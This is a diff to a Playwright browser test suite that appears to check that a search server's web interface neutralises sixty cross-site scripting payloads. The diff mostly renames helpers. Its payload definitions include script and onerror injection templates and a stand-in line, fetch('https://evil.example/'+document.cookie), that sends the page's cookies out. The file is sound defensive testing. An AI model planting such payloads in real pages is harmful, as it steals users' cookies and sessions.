@@ -1,4 +1,4 @@
-"""The page among hostile documents, on a server that wants a key."""
+"""The page among hostile documents, on a server that requires a key."""
 
 from collections.abc import Iterator
 from dataclasses import dataclass
@@ -9,13 +9,22 @@ import pytest
 pytest.importorskip("playwright.sync_api", reason="the browser driver is not installed")
 
 from playwright.sync_api import Browser, Page, expect
-from tests.serving.http.browser import Served, Watched, browser, serve, tab, why_absent
+from tests.serving.http.browser import (
+    ServerProcess,
+    WatchedTab,
+    browser,
+    explain_absence,
+    open_tab,
+    serve,
+)
 
 from fathom import Engine
 from fathom.index.engines import EmbeddedIndex
 from fathom.serving.http.keys import Key, create_key_store
 
-pytestmark = pytest.mark.skipif(bool(why_absent()), reason=why_absent() or "there is a browser")
+pytestmark = pytest.mark.skipif(
+    bool(explain_absence()), reason=explain_absence() or "there is a browser"
+)
 CALLS = ("hacked()", "alert(1)", "fetch('https://evil.example/'+document.cookie)")
 ELEMENTS = (
     "<script>{call}</script>",
@@ -46,21 +55,21 @@ WATCH = "window.hacked = () => { window.wasHacked = true; };"
 
 
 @dataclass
-class Guarded:
-    """A server with the key that it wants."""
+class GuardedServer:
+    """A server and the key that it requires."""
 
-    served: Served
+    served: ServerProcess
     key: str
 
 
 @pytest.fixture(scope="module")
 def chrome() -> Iterator[Browser]:
-    with browser() as found:
-        yield found
+    with browser() as chromium:
+        yield chromium
 
 
 @pytest.fixture(scope="module")
-def guarded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Guarded]:
+def guarded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[GuardedServer]:
     folder = tmp_path_factory.mktemp("hostile")
     (folder / "corpus").mkdir()
     for number, payload in enumerate(PAYLOADS, start=1):
@@ -73,18 +82,20 @@ def guarded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Guarded]:
     _, key = keys.add(Key(id="", name="page"))
     keys.close()
     server = serve(folder / "index")
-    yield Guarded(server, key)
+    yield GuardedServer(server, key)
     server.stop()
 
 
 @pytest.fixture
-def hostile(chrome: Browser, guarded: Guarded) -> Iterator[Watched]:
-    with tab(chrome, guarded.served.address) as watched:
+def hostile(chrome: Browser, guarded: GuardedServer) -> Iterator[WatchedTab]:
+    with open_tab(chrome, guarded.served.address) as watched:
         watched.context.add_init_script(WATCH)
-        kept = f"if (location.protocol === 'http:') sessionStorage['fathom.key'] = '{guarded.key}';"
-        watched.context.add_init_script(kept)
+        script = (
+            f"if (location.protocol === 'http:') sessionStorage['fathom.key'] = '{guarded.key}';"
+        )
+        watched.context.add_init_script(script)
         yield watched
-        assert watched.faults() == []
+        assert watched.list_faults() == []
         assert not watched.page.evaluate("window.wasHacked === true")
 
 
@@ -92,12 +103,12 @@ def test_there_are_sixty_payloads() -> None:
     assert len(set(PAYLOADS)) == 60
 
 
-def test_a_server_that_wants_a_key_is_given_one_for_this_tab_only(
-    chrome: Browser, guarded: Guarded
+def test_the_required_key_is_kept_for_this_tab_only(
+    chrome: Browser, guarded: GuardedServer
 ) -> None:
-    with tab(chrome, guarded.served.address) as watched:
+    with open_tab(chrome, guarded.served.address) as watched:
         watched.expected = ("401 (Unauthorized)",)
-        page = watched.visit("#/documents")
+        page = watched.open_screen("#/documents")
         dialog = page.get_by_role("dialog", name="API key")
         dialog.get_by_label("The key of this server").fill("fth_wrong")
         dialog.get_by_role("button", name="Use it").click()
@@ -111,75 +122,75 @@ def test_a_server_that_wants_a_key_is_given_one_for_this_tab_only(
         page.get_by_role("button", name="Forget the key").click()
         expect(dialog).to_be_visible()
         assert page.evaluate("sessionStorage.length") == 0
-        assert watched.faults() == []
+        assert watched.list_faults() == []
 
 
-def test_titles_names_and_texts_stay_texts(hostile: Watched) -> None:
-    page = hostile.visit("#/documents")
+def test_titles_names_and_texts_stay_text(hostile: WatchedTab) -> None:
+    page = hostile.open_screen("#/documents")
     rows = page.locator("table.documents tbody tr")
     expect(rows).to_have_count(len(PAYLOADS))
     text = " ".join(rows.all_inner_texts())
     assert "<img src=x onerror=hacked()>" in text
     assert "<script>hacked()<\N{FRACTION SLASH}script>.md" in text
-    unchanged(page)
+    check_unchanged(page)
     for number in range(0, 12, 2):
         rows.nth(number).get_by_role("link").click()
         expect(page.locator(".lines")).to_contain_text("The colour of gate")
-        unchanged(page)
+        check_unchanged(page)
         page.go_back()
         expect(rows).to_have_count(len(PAYLOADS))
 
 
-def test_answers_sources_and_traces_stay_texts(hostile: Watched) -> None:
+def test_answers_sources_and_traces_stay_text(hostile: WatchedTab) -> None:
     for number in (1, 22, 48):
         page = hostile.ask(f"What is the colour of gate {number}?")
-        unchanged(page)
+        check_unchanged(page)
         page.locator(".source, .who").first.click()
         expect(page.locator(".panel .lines")).to_contain_text("The colour of gate")
-        unchanged(page)
+        check_unchanged(page)
     page.get_by_role("link", name="Show the trace").click()
     page.locator(".tree summary").first.click()
-    unchanged(page)
+    check_unchanged(page)
 
 
-def test_a_question_stays_a_text(hostile: Watched) -> None:
+def test_a_question_stays_text(hostile: WatchedTab) -> None:
     page = hostile.ask(PAYLOADS[1])
     expect(page.locator(".question")).to_have_text(PAYLOADS[1])
-    unchanged(page)
+    check_unchanged(page)
     page.reload()
     expect(page.locator(".question")).to_have_text(PAYLOADS[1])
-    unchanged(page)
+    check_unchanged(page)
 
 
 SHOW = (Path(__file__).parent / "hostile.js").read_text(encoding="utf-8")
 
 
-def test_sixty_payloads_in_every_field_make_no_element_and_no_link(hostile: Watched) -> None:
-    page = hostile.visit("#/compare")
+def test_sixty_payloads_in_every_field_make_no_element_and_no_link(hostile: WatchedTab) -> None:
+    page = hostile.open_screen("#/compare")
     page.locator("h1").wait_for()
     page.evaluate(SHOW, list(PAYLOADS))
-    unchanged(page)
+    check_unchanged(page)
     links = page.locator("main a").evaluate_all("links => links.map((each) => each.protocol)")
     assert set(links) <= {"http:", "https:"}
     page.locator("main .source").first.hover()
     page.locator("main details.work summary").first.click()
     page.wait_for_timeout(200)
-    unchanged(page)
+    check_unchanged(page)
 
 
-def test_addresses_of_screens_stay_texts(hostile: Watched) -> None:
+def test_addresses_of_screens_stay_text(hostile: WatchedTab) -> None:
     hostile.expected = ("404 (Not Found)", "400 (Bad Request)", "422 (Unprocessable")
     for payload in PAYLOADS[:20]:
         for screen in ("documents", "traces", "c", "reports"):
             hostile.page.goto(f"{hostile.address}/#/{screen}/{payload}")
     hostile.page.goto(f"{hostile.address}/#/documents/x?start=%3Cimg%20onerror=hacked()%3E")
     expect(hostile.page.get_by_role("alert")).to_be_visible()
-    unchanged(hostile.page)
+    check_unchanged(hostile.page)
 
 
-def unchanged(page: Page) -> None:
-    """Nothing has become an element that the page does not make, nor an attribute that acts."""
-    found = page.evaluate(
+def check_unchanged(page: Page) -> None:
+    """Check that the page has only its own elements, and no attribute that acts."""
+    foreign = page.evaluate(
         """(names) => [...document.querySelectorAll("body *")].filter((each) =>
             names.includes(each.tagName.toLowerCase()) ||
             each.getAttributeNames().some((name) => name.startsWith("on") || name === "srcdoc") ||
@@ -188,5 +199,5 @@ def unchanged(page: Page) -> None:
         ).map((each) => each.outerHTML.slice(0, 200))""",
         FOREIGN,
     )
-    assert found == []
+    assert foreign == []
     assert not page.evaluate("window.wasHacked === true")
